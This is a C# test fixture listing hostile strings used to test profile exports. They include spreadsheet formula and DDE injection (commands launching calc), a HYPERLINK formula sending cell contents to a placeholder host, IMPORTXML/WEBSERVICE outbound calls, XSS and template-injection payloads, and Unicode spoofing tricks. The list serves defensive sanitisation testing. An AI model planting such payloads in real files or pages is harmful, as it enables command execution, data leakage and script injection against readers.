namespace TalentScout.Tests.Export;

/// <summary>Texts that people put into profiles to reach the spreadsheet, the parser or the reader of whoever exports them.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")", "=IMPORTXML(\"http://example.org\",\"//a\")", "=WEBSERVICE(\"http://example.org\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C notepad'!'A1'", "=SUM(1;1)", "=", "==1", "=@A1", "=-1", "+1+1", "+cmd|' /C calc'!A0", "+", "-1+1", "-2+3+cmd|' /C calc'!D2", "-",
        "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", " =1+1", "   =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\v=1+1", "\f=1+1", "\u0085=1+1", "\u00A0=1+1", "\u2003=1+1", "\u3000=1+1",
        "\uFEFF=1+1", "\u200B=1+1", "\u200E=1+1", "\u00AD=1+1", "\u2060=1+1", "\u0000=1+1", "\u0001=1+1", "\uFE0F=1+1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", "\u22121", "\uFE66SUM(1)",
        "'=1+1", "''=1+1", "' =1+1", "'", "''", "a;=1+1", "a; =1+1", "a\n=1+1", "a\r\n-1", "a\t@x", "a;b;+1;c", "x\n\n=1\n=2", "\"=1+1\"", "\"\n=1+1", "\",=1+1,\"", ",=1+1", "a,=1+1", "\"\"",
        "\"", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
        "https://example.org/\" onmouseover=\"alert(1)", "&lt;script&gt;", "]]><x>", "{{7*7}}", "${7*7}", "_x0041_", "_x003D_1+1", "%0A=1+1", "\ud800", "a\udc00b", "\u202Egpj.exe", "NULL", "true", "1e5", "0123", "é",
    ];
}
